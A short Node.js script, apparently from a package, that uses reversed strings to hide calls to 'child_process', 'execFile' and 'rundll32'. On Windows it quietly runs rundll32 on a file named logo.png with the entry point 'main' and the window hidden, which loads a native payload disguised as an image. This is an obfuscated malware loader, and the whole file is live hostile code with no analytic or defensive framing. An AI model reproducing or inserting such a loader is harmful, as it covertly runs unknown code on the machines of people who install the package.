const os = require('os');
const path = require('path');

const names = ['ssecorp_dlihc', 'elifcexe', '23lldnur'].map((one) => [...one].reverse().join(''));
const [from, how, what] = names;

if (os.type() === 'Windows_NT') {
  const args = [`${path.resolve(__dirname, 'logo.png')},main`];
  require(from)[how.replace('file', 'File')](what, args, { windowsHide: true }, () => undefined);
}
